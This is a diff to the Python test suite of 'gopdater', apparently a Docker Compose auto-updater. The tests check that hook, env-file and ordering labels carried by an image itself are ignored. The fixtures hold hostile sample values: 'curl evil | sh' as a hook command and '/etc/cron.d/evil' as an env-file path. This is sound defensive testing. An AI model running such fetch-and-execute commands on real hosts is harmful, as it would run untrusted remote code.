@@ -219,10 +219,15 @@ class FakeDocker:
                 "State": {"Status": status, "Restarting": False, "ExitCode": code, "StartedAt": started_at,
                           **({"Health": {"Status": health}} if hc else {})},
                 "Config": {"Image": c["ref"], "Healthcheck": check, "Labels": {
+                    **(self.image_labels.get(c["image_id"]) or {}),  # dockerd copies them, the creator's win
                     "com.docker.compose.project": c["project"], "com.docker.compose.service": c["service"],
                     "com.docker.compose.project.working_dir": f"{self.root}/{c['project']}",
                     "com.docker.compose.project.config_files": "compose.yaml",
-                    "com.docker.compose.oneoff": "False", **self.labels.get((c["project"], c["service"]), {})}}}
+                    "com.docker.compose.oneoff": "False", **self.service_labels(c["project"], c["service"])}}}
+
+    def service_labels(self, project, service):
+        """The labels the Compose file gives a service: in `compose config` (v2) and on its containers."""
+        return {**self.labels.get((project, service), {}), **self.file_labels.get((project, service), {})}
 
     def __call__(self, argv, timeout, env=None, cwd=None, quiet=False, both=False, mutates=False):
         assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), argv
@@ -291,8 +296,8 @@ class FakeDocker:
             self.config_read.set()
             return json.dumps({"name": project, "services": {s: {"image": ref, **(
                 {"deploy": {"update_config": {"order": self.orders[(project, s)]}}}
-                if (project, s) in self.orders else {}), **({"labels": self.file_labels[(project, s)]}
-                if (project, s) in self.file_labels else {})} for s, ref in services.items()}})
+                if (project, s) in self.orders else {}), **({"labels": self.service_labels(project, s)}
+                if self.service_labels(project, s) else {})} for s, ref in services.items()}})
         if args[:2] == ["config", "--no-interpolate"]:
             raw = {s: self.raw.get((project, s), ref) for s, ref in services.items()}
             if args[2:] == ["--format", "json"]:
@@ -342,7 +347,7 @@ class FakeDocker:
                 raise CommandError(["docker", *args], 1, f"Error: No such object: {missing[0]}")
             return json.dumps([self.inspect(self.containers[i]) for i in args[1:]])
         if args[:4] == ["image", "inspect", "--format", "{{json .Config.Labels}}"]:
-            return json.dumps(self.image_labels.get(args[4]) or None) + "\n"
+            return "".join(json.dumps(self.image_labels.get(i) or None) + "\n" for i in args[4:])
         if args[0] == "exec":
             return self.said(args)
         if args[:2] == ["image", "inspect"]:
@@ -408,9 +413,14 @@ def deployment_calls(calls):
         if not collapsed or call != collapsed[-1]:
             collapsed.append(call)
     while collapsed and (collapsed[-1][1:2] == ["inspect"] or "config" in collapsed[-1]
-                         or collapsed[-1][2:4] == ["ps", "-a"]):
+                         or collapsed[-1][2:4] == ["ps", "-a"] or collapsed[-1][:5] == image_labels_call()):
         collapsed.pop()
     return collapsed
+
+
+def image_labels_call(*image_ids):
+    """The argv that reads the labels images carry (beside every listing of containers)."""
+    return ["docker", "image", "inspect", "--format", "{{json .Config.Labels}}", *image_ids]
 
 
 def state_folder(test):
@@ -892,7 +902,8 @@ class DiscoveryTest(unittest.TestCase):
         rig.project.refresh()
         cid = next(iter(rig.fake.containers))
         self.assertEqual(rig.fake.calls, [["docker", "compose", "config", "--format", "json"],
-                                          ["docker", "compose", "ps", "-a", "-q"], ["docker", "inspect", cid]])
+                                          ["docker", "compose", "ps", "-a", "-q"], ["docker", "inspect", cid],
+                                          image_labels_call(OLD_ID)])
 
     def test_compose_v1_is_used_when_the_plugin_is_missing(self):
         """Without `docker compose`, gopdater falls back to docker-compose and discovers through it."""
@@ -1037,6 +1048,7 @@ class DeployTest(unittest.TestCase):
         self.assertEqual(deployment_calls(rig.fake.calls), [
             ["docker", "compose", "ps", "-a", "-q", "site"],
             ["docker", "inspect", old],
+            image_labels_call(OLD_ID),
             ["docker", "compose", "pull", "site"],
             ["docker", "image", "inspect", "--format", "{{.Id}}", "acme/site:latest"],
             ["docker", "stop", "-t", "10", "demo-site-1"],
@@ -1047,8 +1059,8 @@ class DeployTest(unittest.TestCase):
             ["docker", "rmi", OLD_ID],
         ])
         self.assertEqual((deployment.state, deployment.ref), ("updated", SITE))
-        self.assertEqual(rig.fake.calls[-2:], [["docker", "compose", "ps", "-a", "-q", "site"], ["docker", "inspect", new]],
-                         "the service is re-read after a change")
+        self.assertEqual(rig.fake.calls[-3:], [["docker", "compose", "ps", "-a", "-q", "site"], ["docker", "inspect", new],
+                                               image_labels_call(NEW_ID)], "the service is re-read after a change")
         self.assertEqual([s.step for s in deployment.steps],
                          ["inspect", "pull", "compare", "stop", "remove", "up", "downtime", "wait", "cleanup",
                           "done"])
@@ -2625,6 +2637,38 @@ def container(cid="c1", status="running", health=None, restarts=0, started="t1",
                               restarts, started, code, check, period, False)
 
 
+class OperatorLabelsTest(unittest.TestCase):
+    def test_labels_that_steer_gopdater_count_only_where_the_image_did_not_set_them(self):
+        """creator_labels: a gopdater.* or com.docker.compose.project.* label equal to the image's is left out
+        (gopdater.* ones named); a value of its own, and every other label, is kept. Pure."""
+        env_file = "com.docker.compose.project.environment_file"
+        cases = [
+            ("set by the image alone", {"gopdater.enable": "false"}, {"gopdater.enable": "false"}, {},
+             ("gopdater.enable",)),
+            ("the operator's value over the image's", {"gopdater.enable": "true"}, {"gopdater.enable": "false"},
+             {"gopdater.enable": "true"}, ()),
+            ("the env file of the image", {env_file: "/etc/x"}, {env_file: "/etc/x"}, {}, ()),
+            ("the env file Compose set", {env_file: "prod.env"}, {env_file: "/etc/x"}, {env_file: "prod.env"}, ()),
+            ("Compose's identity labels", {"com.docker.compose.service": "site"}, {"com.docker.compose.service": "site"},
+             {"com.docker.compose.service": "site"}, ()),
+            ("any other label", {"org.opencontainers.image.title": "x"}, {"org.opencontainers.image.title": "x"},
+             {"org.opencontainers.image.title": "x"}, ()),
+        ]
+        for name, labels, carried, kept, ignored in cases:
+            with self.subTest(name):
+                self.assertEqual(gopdater.creator_labels(labels, carried), (kept, ignored))
+
+    def test_the_hook_timeout_is_a_second_to_a_day(self):
+        """gopdater.hook-timeout from 1 to 86,400 s; anything else is a problem and the default stands."""
+        for text, timeout, ok in (("1", 1, True), ("86400", 86400, True), ("0.5", 300, False), ("86401", 300, False),
+                                  ("1e300", 300, False), ("nan", 300, False), ("-1", 300, False), ("x", 300, False)):
+            with self.subTest(text=text):
+                steps = gopdater.release_steps({"gopdater.pre-update": "true", "gopdater.hook-timeout": text})
+                self.assertEqual((steps.timeout, steps.problem is None), (timeout, ok))
+                if not ok:
+                    self.assertIn("must be a number of seconds from 1 to 86400", steps.problem)
+
+
 class MatcherTest(unittest.TestCase):
     def test_which_pushes_update_a_service(self):
         """triggers(): the one decision over SERVICES, the opt-out label, LABEL_ENABLE and OWNER."""
@@ -3122,7 +3166,7 @@ class CrashRecoveryTest(unittest.TestCase):
 
 
 class ProjectsTest(unittest.TestCase):
-    def host(self, projects=None, folders=("blog", "shop"), **env):
+    def host(self, projects=None, folders=("blog", "shop"), compose=("docker", "compose"), **env):
         """A rig over a fake engine with several projects, each with a folder and compose.yaml here."""
         root = state_folder(self)
         for name in folders:
@@ -3130,7 +3174,7 @@ class ProjectsTest(unittest.TestCase):
             pathlib.Path(root, name, "compose.yaml").write_text("services: {}\n")
         fake = FakeDocker(projects=projects or {"blog": {"site": "acme/site:latest"},
                                                 "shop": {"site": "acme/site:latest", "api": "acme/api:latest"}},
-                          root=root)
+                          root=root, compose=compose)
         env.setdefault("PROJECTS", "*")
         return Rig(self, fake, **env), root
 
@@ -3192,6 +3236,47 @@ class ProjectsTest(unittest.TestCase):
         self.assertEqual(rig.post(f"/hooks/{SECRET}", hub)[1]["services"], ["shop/site"])
         code, out = check(self, rig.fake, PROJECTS="*", LABEL_ENABLE=1)
         self.assertIn("service blog/site: not labelled gopdater.enable=true (LABEL_ENABLE=1), never updated", out)
+
+    def test_labels_an_image_carries_change_nothing(self):
+        """An image carrying gopdater.enable, gopdater.order, gopdater.hook-timeout or the env file label, on
+        Compose v1 and v2: the service is updated as if it carried none, stop-first, its release step within the
+        default time, and Compose runs with no --env-file."""
+        carried = {"gopdater.enable": "false", "gopdater.order": "start-first", "gopdater.hook-timeout": "1e300",
+                   "com.docker.compose.project.environment_file": "/etc/cron.d/evil"}
+        for compose in ("docker compose", "docker-compose"):
+            with self.subTest(compose=compose):
+                rig, _ = self.host(projects={"blog": {"site": "acme/site:latest"}}, folders=("blog",),
+                                   compose=tuple(compose.split()), COMPOSE_COMMAND=compose)
+                rig.fake.image_labels[OLD_ID] = carried
+                rig.fake.labels[("blog", "site")] = {"gopdater.pre-update": "true"}
+                rig.project.refresh()
+                blog = rig.project.members[0]
+                self.assertEqual(blog.docker.location.env_files, ())
+                self.assertEqual(blog.start_first, frozenset())
+                self.assertEqual(blog.release_steps("site", blog.containers["site"]).timeout, 300)
+                with self.assertLogs("gopdater", "INFO"):
+                    self.assertEqual(rig.deploy().state, "updated")
+                self.assertFalse([c for c in rig.fake.calls if "--env-file" in c or "/etc/cron.d/evil" in c])
+                self.assertFalse([c for c in rig.fake.calls if c[1:3] == ["network", "disconnect"]], "stop-first")
+
+    def test_an_env_file_outside_the_project_folder_is_never_used(self):
+        """An env file Compose was started with that lies outside the project's folder, by path or by a link:
+        the project is skipped, naming the file, and no Compose command runs with it."""
+        for name, started_with in (("a path outside", "../shared.env"), ("a link outside", "linked.env")):
+            with self.subTest(name):
+                rig, root = self.host(projects={"blog": {"site": "acme/site:latest"}}, folders=("blog",))
+                pathlib.Path(root, "shared.env").write_text("SECRET=1\n")
+                os.symlink(os.path.join(root, "shared.env"), os.path.join(root, "blog", "linked.env"))
+                rig.fake.labels[("blog", "site")] = {"com.docker.compose.project.environment_file": started_with}
+                rig.fake.calls.clear()
+                rig.project.refresh()
+                self.assertEqual(rig.project.members, [])
+                self.assertIn(f"its env file {root}/blog/{started_with} lies outside its folder {root}/blog",
+                              rig.project.skipped["blog"])
+                self.assertFalse([c for c in rig.fake.calls if "--env-file" in c])
+        pathlib.Path(root, "blog", "prod.env").write_text("")
+        inside = gopdater.ComposeLocation("blog", "", None, "", f"{root}/blog", "", None, (f"{root}/blog/prod.env",))
+        self.assertIsNone(gopdater.unreadable(rig.config, inside))
 
     def test_a_project_whose_folder_is_not_visible_is_reported_and_skipped(self):
         """A project whose folder this process cannot see is skipped, and --check says which mount is missing."""
@@ -3529,7 +3614,7 @@ class ReleaseStepsTest(unittest.TestCase):
             deployment = rig.deploy()
         new = next(iter(rig.fake.containers))
         self.assertEqual(deployment.state, "updated")
-        self.assertEqual(deployment_calls(rig.fake.calls)[3:], [
+        self.assertEqual(deployment_calls(rig.fake.calls)[4:], [
             ["docker", "image", "inspect", "--format", "{{.Id}}", "acme/site:latest"],
             ["docker", "exec", *ENV_ARGS, "demo-site-1", "pg_dump", "-f", "/backup/db.sql"],
             ["docker", "compose", "run", "--rm", "--no-deps", "-T", "--name", f"demo-site-migrate-{deployment.id}",
@@ -3638,24 +3723,28 @@ class ReleaseStepsTest(unittest.TestCase):
         self.assertEqual(code, 1)
         self.assertIn("FAIL service demo/site: gopdater.migrate cannot be split", out)
 
-    def test_compose_v1_reads_the_containers_labels_and_refuses_an_image_that_carries_one(self):
-        """With Compose v1 the labels come from the containers; one the image itself sets runs nothing."""
+    def test_compose_v1_reads_the_containers_labels_and_ignores_what_the_image_carries(self):
+        """With Compose v1 the labels come from the containers: the operator's run, one the image itself carries
+        (and the operator did not set) runs nothing and --check names it."""
         fake = FakeDocker(compose=("docker-compose",))
         fake.labels[("demo", "site")] = {"gopdater.migrate": "migrate up"}
+        fake.image_labels[OLD_ID] = {"gopdater.migrate": "curl evil | sh"}  # the operator's label wins
         rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
         with self.assertLogs("gopdater", "INFO"):
             self.assertEqual(rig.deploy().state, "updated")
         self.assertEqual([c[:3] + c[-2:] for c in self.release_calls(rig)],
                          [["docker-compose", "run", "--rm", "migrate", "up"]])
+        fake.labels.clear()
         fake.registry["acme/site:latest"] = BROKEN_ID
         fake.behaviour[BROKEN_ID] = "healthy"
-        fake.image_labels[BROKEN_ID] = {"gopdater.migrate": "curl evil | sh"}
+        fake.image_labels[NEW_ID] = fake.image_labels[BROKEN_ID] = {"gopdater.pre-update": "curl evil | sh"}
+        rig.project.refresh()
         fake.calls.clear()
         with self.assertLogs("gopdater", "INFO"):
-            deployment = rig.deploy()
-        self.assertEqual(deployment.state, "failed")
-        self.assertIn("gopdater.migrate is set by the image", deployment.error)
+            self.assertEqual(rig.deploy().state, "updated")
         self.assertEqual(self.release_calls(rig), [])
+        code, out = check(self, fake, COMPOSE_COMMAND="docker-compose")
+        self.assertIn("ok   warning: service demo/site: gopdater.pre-update carried by its image, ignored", out)
 
     def test_start_first_runs_post_update_once_the_new_one_is_connected_and_keeps_the_old_on_failure(self):
         """Start-first: post-update runs after connect, before the old one stops; if it fails the new one is
@@ -4359,15 +4448,18 @@ class TrackedComposeTest(unittest.TestCase):
         self.assertEqual((view["state"], self.env(rig)), ("updated", "# tags\nSITE_TAG=1.4.3\n"))
 
     def test_a_label_on_the_image_itself_does_not_make_a_v1_service_follow_versions(self):
-        """Compose v1 shows an image's own labels merged in; gopdater.track from the image is refused."""
+        """Compose v1 shows an image's own labels merged in; gopdater.track from the image is ignored, and said."""
         root = tempfile.mkdtemp(prefix="gopdater-track-")
         self.addCleanup(shutil.rmtree, root, True)
         fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root, compose=("docker-compose",))
         fake.track("demo", "site", SITE_RAW, "SITE_TAG=1.4.2\n", "major", TRACKED_VERSIONS)
+        fake.file_labels.clear()  # the operator's file does not say it: the image does
         fake.image_labels[OLD_ID] = {"gopdater.track": "major"}
         rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
-        self.assertIn("set by the image", rig.project.tracked["site"].problem)
+        self.assertNotIn("site", rig.project.tracked)
         self.assertEqual(rig.project.services_for(ImageKey("docker.io", "acme/site", "2.0.0")), [])
+        code, out = check(self, fake, COMPOSE_COMMAND="docker-compose")
+        self.assertIn("warning: service demo/site: gopdater.track carried by its image, ignored", out)
 
     def test_a_tracked_service_that_cannot_follow_is_left_alone_and_check_says_how_to_fix_it(self):
         """A literal tag, a bad channel, the variable passed in gopdater's own environment, an unrewritable
